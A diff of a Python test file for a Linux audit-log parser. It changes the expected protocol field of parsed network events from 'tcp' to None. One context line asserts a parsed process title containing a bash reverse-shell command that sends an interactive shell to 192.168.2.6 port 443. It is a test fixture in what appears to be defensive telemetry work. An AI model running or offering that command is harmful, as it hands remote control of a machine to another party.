@@ -183,7 +183,7 @@ def test_formats_example_curl_connect(tmp_path):
     # success=no exit=-115 (EINPROGRESS) is how a non-blocking connect starts: kept
     assert pick(r, *NET) == {"kind": "network", "event_id": 42, "pid": 6422, "image": "/usr/bin/curl",
                              "dst_ip": "216.58.213.68", "dst_port": 443, "remote_ip": "216.58.213.68",
-                             "remote_port": 443, "direction": "outbound", "protocol": "tcp"}
+                             "remote_port": 443, "direction": "outbound", "protocol": None}
     assert r["time"] == datetime(2018, 7, 18, 8, 46, 15, 684000) and r["user"] == "0" and r["source_line"] == 1
     assert decode_saddr("020001BBD83AD5440000000000000000") == SockAddr("inet", "216.58.213.68", 443, None, 2)
     assert proctitle_argv(parse_fields(CURL.splitlines()[2].split("): ", 1)[1])["proctitle"]) == [
@@ -276,7 +276,7 @@ def test_auoms_connect_and_non_syscall_records(tmp_path):
     [r] = rows
     assert pick(r, *NET, "user", "host") == {
         "kind": "network", "event_id": 42, "pid": 17794, "image": "/bin/bash", "dst_ip": "192.168.2.6",
-        "dst_port": 443, "remote_ip": "192.168.2.6", "remote_port": 443, "direction": "outbound", "protocol": "tcp",
+        "dst_port": 443, "remote_ip": "192.168.2.6", "remote_port": 443, "direction": "outbound", "protocol": None,
         "user": "tomcat", "host": "ubuntu5"}
     fields = parse_fields(connect.split("): ", 1)[1], auoms=True)
     assert fields["proctitle"] == "bash -i >& /dev/tcp/192.168.2.6/443 0>&1" and fields["containerid"] == ""
